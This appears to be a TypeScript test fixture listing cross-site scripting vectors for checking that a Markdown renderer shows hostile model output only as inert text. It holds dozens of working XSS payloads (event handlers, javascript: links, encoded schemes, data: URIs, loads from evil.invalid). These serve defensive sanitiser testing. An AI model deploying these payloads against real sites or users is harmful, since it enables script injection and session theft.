// Hostile model output. Every vector either calls window.__xss() or tries to load from evil.invalid if it
// ever executes or renders as live HTML.

export interface XssVector {
  markdown: string;
  /**
   * Text that must be visible once rendered (default: `__xss`, else `evil.invalid`). Null when the payload
   * lands somewhere harmless but invisible: a fence's info string, or the percent-encoded href or the
   * title of a legitimate https link.
   */
  shows?: string | null;
}

/** The text a vector must leave visible, or undefined when none is expected. */
export function visibleMarker(vector: XssVector): string | undefined {
  if (vector.shows === null) return undefined;
  return vector.shows ?? (vector.markdown.includes('__xss') ? '__xss' : 'evil.invalid');
}

/**
 * The visible label that heads vector `index` when vectors are joined into one answer: plain letters and
 * digits (no Markdown meaning), fixed width so no label is a substring of another.
 */
export function vectorLabel(index: number): string {
  return `XSSV${String(index).padStart(4, '0')}X`;
}

/** Vectors joined into one answer, each as its own paragraph after its own label paragraph. */
export function labelledAnswer(vectors: ReadonlyArray<{ vector: XssVector; index: number }>): string {
  return vectors.map(({ vector, index }) => `${vectorLabel(index)}\n\n${vector.markdown}`).join('\n\n');
}

/**
 * Checks every vector of a `labelledAnswer` in the rendered text on its own: its label is shown once and
 * in order, and its marker shows between its label and the next one (so no vector can borrow another's
 * marker). Returns a line per vector that fails.
 */
export function unshownVectors(
  vectors: ReadonlyArray<{ vector: XssVector; index: number }>,
  shown: string,
): string[] {
  const starts = vectors.map(({ index }) => shown.indexOf(vectorLabel(index)));
  return vectors.flatMap(({ vector, index }, i) => {
    const label = vectorLabel(index);
    const start = starts[i];
    if (start < 0 || shown.indexOf(label, start + 1) >= 0)
      return [`${label} not shown once: ${vector.markdown}`];
    const next = starts.slice(i + 1).find((s) => s >= 0) ?? shown.length;
    if (next < start) return [`${label} out of order: ${vector.markdown}`];
    const marker = visibleMarker(vector);
    const own = shown.slice(start + label.length, next);
    return marker === undefined || own.includes(marker)
      ? []
      : [`${label} lost "${marker}": ${vector.markdown}`];
  });
}

const special: XssVector[] = [
  { markdown: '<img src=x onerror="&#95;&#95;xss()">', shows: '__xss' },
  {
    markdown: '[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3MoKTwvc2NyaXB0Pg==)',
    shows: 'data:text/html;base64',
  },
  { markdown: '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X194c3MoKT4=)', shows: 'data:image/svg+xml' },
  { markdown: '![x](http://evil.invalid/img.png?__xss)', shows: '[image: x]' },
  { markdown: '[x](https://ok.example/"onclick="__xss())', shows: null },
  { markdown: '[click](https://example.com "t\\" onmouseover=\\"__xss()")', shows: null },
  { markdown: '```"><img src=x onerror=__xss()>\ncode\n```', shows: null },
  { markdown: '```js onerror=__xss()\ncode\n```', shows: null },
];

const raw: string[] = [
  '<script>__xss()</script>',
  '<SCRIPT SRC=http://evil.invalid/x.js></SCRIPT>',
  '<img src=x onerror=__xss()>',
  '<img src="http://evil.invalid/beacon.gif">',
  '<svg onload=__xss()>',
  '<svg><script>__xss()</script></svg>',
  '<svg><a xlink:href="javascript:__xss()"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=__xss()>',
  '<math href="javascript:__xss()">x</math>',
  '<iframe src="javascript:__xss()"></iframe>',
  '<iframe srcdoc="<script>parent.__xss()</script>"></iframe>',
  '<object data="javascript:__xss()"></object>',
  '<object data="http://evil.invalid/x.swf"></object>',
  '<embed src="javascript:__xss()">',
  '<a href="javascript:__xss()">click</a>',
  '<a href="  javascript:__xss()">spaced</a>',
  '<a href="http://evil.invalid" onclick="__xss()">x</a>',
  '<div style="background:url(javascript:__xss())">styled</div>',
  '<div style="width: expression(__xss())">ie</div>',
  '<div style="background-image:url(http://evil.invalid/bg.png)">bg</div>',
  "<style>@import 'http://evil.invalid/x.css';</style>",
  '<style>body{background:url(http://evil.invalid/bg.png)}</style>',
  '<link rel=stylesheet href=http://evil.invalid/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:__xss()">',
  '<base href="http://evil.invalid/">',
  '<form action="javascript:__xss()"><button>go</button></form>',
  '<input autofocus onfocus=__xss()>',
  '<details open ontoggle=__xss()>',
  '<body onload=__xss()>',
  '<video><source onerror=__xss()></video>',
  '<audio src=x onerror=__xss()>',
  '<marquee onstart=__xss()>m</marquee>',
  '<template><script>__xss()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=__xss()>">',
  '<!--<img src=x onerror=__xss()>-->',
  '<table background="javascript:__xss()"><tr><td>t</td></tr></table>',
  '<isindex action=javascript:__xss() type=image>',
  '&lt;img src=x onerror=__xss()&gt;',
  '[x](javascript:__xss())',
  '[x](JaVaScRiPt:__xss())',
  '[x](&#106;avascript:__xss())',
  '[x](&#x6A;avascript&#x3A;__xss())',
  '[x](javascript&colon;__xss())',
  '[x](java&#09;script:__xss())',
  '[x](java%0ascript:__xss())',
  '[x](java\u200Bscript:__xss())',
  '[x](\u202Ejavascript:__xss())',
  '[x](java\u0000script:__xss())',
  '[x](  javascript:__xss() )',
  '[x](<javascript:__xss()>)',
  '[x](data:text/html,<script>__xss()</script>)',
  '[x](vbscript:__xss())',
  '[x](file:///etc/passwd?__xss)',
  '[x](/relative/__xss)',
  '[x](#" onclick="__xss())',
  '[x](http://evil.invalid/" onmouseover="__xss())',
  '![x](javascript:__xss())',
  '![x" onerror="__xss()](http://evil.invalid/a.png)',
  '[![img](javascript:__xss())](javascript:__xss())',
  '<javascript:__xss()>',
  '<JAVASCRIPT:__xss()>',
  '<vbscript:__xss()>',
  '[x][ref]\n\n[ref]: javascript:__xss()',
  '`<img src=x onerror=__xss()>`',
  '```html\n<img src=x onerror=__xss()>\n<script>__xss()</script>\n```',
  'https://ok.example/<script>__xss()</script>',
  'www.evil.invalid/"><img src=x onerror=__xss()>',
  'mailto:x@y.z?body=<script>__xss()</script>',
  '\u202E[x](moc.elpmaxe//:sptth) __xss',
  '| <img src=x onerror=__xss()> | [x](javascript:__xss()) |\n|---|---|\n| <script>__xss()</script> | b |',
];

/** The vectors, each in its own paragraph when concatenated. */
export const XSS_VECTORS: XssVector[] = [...raw.map((markdown) => ({ markdown })), ...special];
